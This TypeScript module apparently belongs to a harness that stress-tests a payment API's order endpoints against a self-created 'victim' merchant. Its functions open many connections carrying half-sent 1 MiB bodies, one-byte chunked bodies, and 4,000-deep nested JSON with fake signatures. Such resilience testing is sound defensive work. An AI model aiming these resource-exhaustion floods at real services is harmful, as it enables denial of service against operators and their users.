import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import type { Victim } from './victim.ts';

const megabyte = 1024 * 1024;

/** Begins a POST and leaves it unfinished; `headers` without their last line end. Resolves when everything given is written. */
async function beginPost(url: string, path: string, headers: readonly string[], body: string): Promise<Socket> {
  const { hostname, port, host } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.resume();
  const head = [`POST ${path} HTTP/1.1`, `Host: ${host}`, 'Content-Type: application/json', ...headers];
  const written = new Promise((resolve) => socket.write(`${head.join('\r\n')}\r\n\r\n${body}`, resolve));
  // A server that does not read leaves the bytes unwritten, which is its right.
  const patience = new Promise((resolve) => setTimeout(resolve, 5_000).unref());
  await Promise.race([written, once(socket, 'close'), patience]);
  return socket;
}

const signatureHeaders = () => [`X-Timestamp: ${Date.now()}`, `X-Signature: ${randomBytes(32).toString('base64')}`];

/** Bodies that stop before their end, sent by people who know a key at most. */
export async function halfSentBodies(victim: Victim, count: number): Promise<string> {
  const { merchantId, apiKey } = await victim.newMerchant();
  const path = `/api/v1/merchants/${merchantId}/orders`;
  const sockets = await Promise.all(
    Array.from({ length: count }, (_, index) =>
      beginPost(
        victim.url,
        path,
        [`X-Api-Key: ${index % 2 ? apiKey : 'unknown'}`, ...signatureHeaders(), `Content-Length: ${megabyte}`],
        'a'.repeat(megabyte - 1),
      ),
    ),
  );
  for (const socket of sockets) socket.destroy();
  return `${count} bodies of 1 MiB without their last byte`;
}

/** A body in chunks of one byte each, so that every byte is an event. */
export async function singleBytes(victim: Victim, count: number): Promise<string> {
  const { merchantId, apiKey } = await victim.newMerchant();
  const headers = [`X-Api-Key: ${apiKey}`, ...signatureHeaders(), 'Transfer-Encoding: chunked'];
  const path = `/api/v1/merchants/${merchantId}/orders`;
  const sockets = await Promise.all(
    Array.from({ length: count }, () => beginPost(victim.url, path, headers, '1\r\na\r\n'.repeat(500_000))),
  );
  for (const socket of sockets) socket.destroy();
  return `${count} bodies of 500,000 chunks of one byte`;
}

/** Deep JSON under a wrong signature, which a sandbox explains. */
export async function nestedBodies(victim: Victim, count: number): Promise<string> {
  const { merchantId } = await victim.newMerchant();
  const body = '['.repeat(4_000) + ']'.repeat(4_000) + ' '.repeat(megabyte - 8_000);
  const answered = Array.from({ length: count }, async () => {
    const headers = [...signatureHeaders(), `Content-Length: ${body.length}`];
    const socket = await beginPost(victim.url, `/api/v1/merchants/${merchantId}/checkout/orders`, headers, body);
    if (!socket.destroyed) await Promise.race([once(socket, 'data'), once(socket, 'close')]);
    socket.destroy();
  });
  await Promise.all(answered);
  return `${count} bodies of 1 MiB, 4,000 deep, with a wrong signature`;
}
